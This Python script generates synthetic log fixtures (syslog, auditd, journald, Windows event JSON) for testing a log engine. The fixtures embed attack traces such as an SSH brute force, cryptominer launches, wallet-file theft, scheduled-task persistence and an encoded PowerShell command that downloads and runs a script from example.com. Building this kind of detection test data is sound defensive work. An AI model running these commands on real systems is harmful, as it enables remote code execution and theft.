#!/usr/bin/env python3
"""gen_logs_text.py OUTDIR — text logs for the log engine's e2e cases,
fuzz seeds and benchmarks, all made up here (documentation address ranges
192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24; example.com hosts):

  auth.log          RFC 3164 sshd dictionary attack (Failed password /
                    Invalid user / a final Accepted), sudo, pam_unix,
                    "message repeated N times", a cron line starting a miner
  syslog5424.log    RFC 5424 lines with structured data
  syslog_year.log   RFC 3164 lines with a year, and ISO-stamped lines
  audit.log         auditd multi-record events, hex-encoded EXECVE args and
                    proctitle (a miner started from /tmp)
  journal.export    journald export format with a binary (length-prefixed)
                    MESSAGE
  winlogbeat.jsonl  Winlogbeat/ECS events (4625 storm, 4688 schtasks)
  nxlog.jsonl       NXLog-flattened events as in the OTRF datasets
  sysmon.jsonl      evtx-JSON Sysmon events (process creation with an
                    encoded PowerShell command, a wallet file access)
"""
import base64
import json
import os
import struct
import sys


def enc_ps(cmd):
    return base64.b64encode(cmd.encode('utf-16-le')).decode()


def auth_log():
    out = []
    t = 0

    def ts():
        return 'Mar  3 04:%02d:%02d' % (10 + t // 60, t % 60)
    users = ['admin', 'oracle', 'test', 'ubuntu', 'git', 'postgres', 'pi', 'user']
    pid = 2000
    for i, u in enumerate(users):
        t += 3
        pid += 1
        out.append('%s web1 sshd[%d]: Invalid user %s from 203.0.113.50 port %d' % (ts(), pid, u, 40000 + i))
        out.append('%s web1 sshd[%d]: pam_unix(sshd:auth): authentication failure; logname= uid=0 '
                   'euid=0 tty=ssh ruser= rhost=203.0.113.50' % (ts(), pid))
        out.append('%s web1 sshd[%d]: Failed password for invalid user %s from 203.0.113.50 port %d ssh2'
                   % (ts(), pid, u, 40000 + i))
    for i in range(6):
        t += 2
        pid += 1
        out.append('%s web1 sshd[%d]: Failed password for root from 203.0.113.50 port %d ssh2'
                   % (ts(), pid, 41000 + i))
    t += 1
    out.append('%s web1 sshd[%d]: message repeated 3 times: [ Failed password for root from '
               '203.0.113.50 port 41005 ssh2]' % (ts(), pid))
    t += 5
    out.append('%s web1 sshd[%d]: Accepted password for root from 203.0.113.50 port 41100 ssh2' % (ts(), pid + 1))
    out.append('%s web1 sshd[%d]: Connection closed by authenticating user root 198.51.100.4 port 50000 [preauth]' % (ts(), pid + 2))
    out.append('%s web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/apt update' % ts())
    out.append('%s web1 CRON[3100]: (root) CMD (/tmp/.cache/kworker -o pool.example.com:3333 --donate-level 1 -B)' % ts())
    out.append('%s web1 su[3200]: pam_unix(su:session): session opened for user root by alice(uid=1000)' % ts())
    out.append('this line is not syslog')
    return '\n'.join(out) + '\n'


def syslog5424():
    return ('<34>1 2024-03-03T04:10:00.123Z host1.example.com sshd 812 - '
            '[origin ip="192.0.2.10"][meta sequenceId="1"] Invalid user bob from 192.0.2.77\n'
            '<13>1 2024-03-03T04:10:01Z host1.example.com app - ID7 - \xef\xbb\xbfhello\n'
            '<86>1 2024-03-03T04:10:02+02:00 host1.example.com sudo 900 - - '
            'carol : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/bin/sh -c id\n')


def syslog_year():
    return ('Mar  3 2023 04:10:00 h1 sshd[10]: Failed password for root from 192.0.2.1 port 22 ssh2\n'
            '2024-03-03T04:10:00.5+00:00 h1 sshd[11]: Accepted publickey for deploy from 192.0.2.2 port 23 ssh2\n'
            '2024-03-03 04:10:01 h1 kernel: something\n')


def hexs(s):
    return s.encode().hex().upper()


def audit_log():
    ev = []
    ev.append('type=SYSCALL msg=audit(1709438400.100:900): arch=c000003e syscall=59 success=yes '
              'exit=0 a0=1 a1=2 a2=3 a3=0 items=2 ppid=1 pid=4000 auid=1000 uid=0 gid=0 euid=0 '
              'tty=(none) ses=4 comm="kworker" exe="/tmp/.cache/kworker" key="exec"')
    ev.append('type=EXECVE msg=audit(1709438400.100:900): argc=5 a0="/tmp/.cache/kworker" a1="-o" '
              'a2="pool.example.com:3333" a3=%s a4="-B"' % hexs('--donate-level 1'))
    ev.append('type=CWD msg=audit(1709438400.100:900): cwd="/tmp/.cache"')
    ev.append('type=PATH msg=audit(1709438400.100:900): item=0 name="/tmp/.cache/kworker" inode=9 mode=0100755')
    ev.append('type=PROCTITLE msg=audit(1709438400.100:900): proctitle=%s'
              % ('/tmp/.cache/kworker\0-o\0pool.example.com:3333'.encode().hex().upper()))
    ev.append('type=EOE msg=audit(1709438400.100:900):')
    ev.append('type=USER_CMD msg=audit(1709438401.000:901): pid=4151 uid=1000 auid=1000 ses=4 '
              "msg='cwd=\"/home/alice\" cmd=%s terminal=pts/0 res=success'" % hexs('cat wallet.dat'))
    ev.append('type=SYSCALL msg=audit(1709438402.000:902): arch=c000003e syscall=257 success=yes '
              'exit=3 items=1 ppid=1 pid=4100 auid=1000 uid=1000 comm="stealer" exe="/tmp/stealer" key="wallet"')
    ev.append('type=PATH msg=audit(1709438402.000:902): item=0 name="/home/alice/.bitcoin/wallet.dat" inode=77')
    return '\n'.join(ev) + '\n'


def journal_export():
    out = bytearray()

    def kv(k, v):
        out.extend(('%s=%s\n' % (k, v)).encode())

    def binf(k, v):
        out.extend(k.encode() + b'\n' + struct.pack('<Q', len(v)) + v + b'\n')
    for i in range(5):
        kv('__CURSOR', 's=abc;i=%d' % i)
        kv('__REALTIME_TIMESTAMP', str(1709438400000000 + i * 1000000))
        kv('_HOSTNAME', 'node1')
        kv('SYSLOG_IDENTIFIER', 'sshd')
        kv('_PID', str(500 + i))
        kv('_SYSTEMD_UNIT', 'ssh.service')
        kv('MESSAGE', 'Failed password for root from 198.51.100.9 port %d ssh2' % (6000 + i))
        out.extend(b'\n')
    kv('__REALTIME_TIMESTAMP', '1709438500000000')
    kv('SYSLOG_IDENTIFIER', 'miner-wrapper')
    kv('_SYSTEMD_UNIT', 'kworker.service')
    kv('_CMDLINE', '/opt/k/kworker --url stratum+tcp://pool.example.com:4444')
    binf('MESSAGE', b'started\nwith two lines')
    out.extend(b'\n')
    return bytes(out)


def winlogbeat():
    lines = []
    for i in range(12):
        lines.append(json.dumps({
            '@timestamp': '2024-03-03T04:10:%02d.000Z' % i,
            'host': {'name': 'dc1'},
            'winlog': {'channel': 'Security', 'event_id': 4625,
                       'provider_name': 'Microsoft-Windows-Security-Auditing',
                       'computer_name': 'dc1.example.com', 'record_id': 1000 + i,
                       'event_data': {'TargetUserName': 'user%d' % (i % 4),
                                      'IpAddress': '203.0.113.77', 'LogonType': '3',
                                      'Status': '0xc000006d'}}}))
    lines.append(json.dumps({
        '@timestamp': '2024-03-03T04:11:00.000Z',
        'winlog': {'channel': 'Security', 'event_id': 4688,
                   'provider_name': 'Microsoft-Windows-Security-Auditing',
                   'computer_name': 'ws2.example.com', 'record_id': 2000,
                   'event_data': {'NewProcessName': 'C:\\Windows\\System32\\schtasks.exe',
                                  'ParentProcessName': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                                  'CommandLine': 'schtasks /create /tn Updater /sc minute /tr "powershell -w hidden -enc %s"'
                                  % enc_ps('iex (iwr http://example.com/m.ps1)')}}}))
    return '\n'.join(lines) + '\n'


def nxlog():
    lines = []
    lines.append(json.dumps({
        'SourceName': 'Microsoft-Windows-Security-Auditing', 'Channel': 'Security',
        'Hostname': 'WKS1.example.com', 'EventID': 4688, 'RecordNumber': 31,
        '@timestamp': '2024-03-03T05:00:00.000Z', 'EventTime': '2024-03-03 05:00:00',
        'NewProcessName': 'C:\\Windows\\System32\\cmd.exe',
        'ParentProcessName': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'CommandLine': 'cmd.exe /C schtasks /create /tn T1 /tr C:\\Users\\Public\\x.exe /sc onlogon'}))
    lines.append(json.dumps({
        'SourceName': 'Microsoft-Windows-PowerShell', 'Channel': 'Microsoft-Windows-PowerShell/Operational',
        'Hostname': 'WKS1.example.com', 'EventID': 4104, 'RecordNumber': 32,
        '@timestamp': '2024-03-03T05:00:01.000Z',
        'ScriptBlockText': "Register-ScheduledTask -TaskName 'Upd' -Action (New-ScheduledTaskAction -Execute 'powershell.exe')"}))
    return '\n'.join(lines) + '\n'


def sysmon():
    def ev(eid, rec, data):
        return json.dumps({'Event': {
            'System': {'Provider': {'#attributes': {'Name': 'Microsoft-Windows-Sysmon'}},
                       'EventID': eid, 'Channel': 'Microsoft-Windows-Sysmon/Operational',
                       'Computer': 'ws3.example.com', 'EventRecordID': rec,
                       'TimeCreated': {'#attributes': {'SystemTime': '2024-03-03T06:00:%02d.000000Z' % rec}}},
            'EventData': data}})
    return '\n'.join([
        ev(1, 1, {'Image': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
                  'CommandLine': 'powershell.exe -NoP -NonI -enc %s' % enc_ps('Start-Process xmrig.exe'),
                  'ParentImage': 'C:\\Windows\\explorer.exe', 'User': 'EXAMPLE\\bob'}),
        ev(11, 2, {'Image': 'C:\\Users\\bob\\AppData\\Local\\Temp\\s.exe',
                   'TargetFilename': 'C:\\Users\\bob\\AppData\\Roaming\\Exodus\\exodus.wallet\\seed.seco'}),
    ]) + '\n'


def main():
    out = sys.argv[1]
    os.makedirs(out, exist_ok=True)
    files = {
        'auth.log': auth_log().encode(),
        'syslog5424.log': syslog5424().encode('latin-1'),
        'syslog_year.log': syslog_year().encode(),
        'audit.log': audit_log().encode(),
        'journal.export': journal_export(),
        'winlogbeat.jsonl': winlogbeat().encode(),
        'nxlog.jsonl': nxlog().encode(),
        'sysmon.jsonl': sysmon().encode(),
    }
    for name, data in files.items():
        with open(os.path.join(out, name), 'wb') as f:
            f.write(data)


if __name__ == '__main__':
    main()
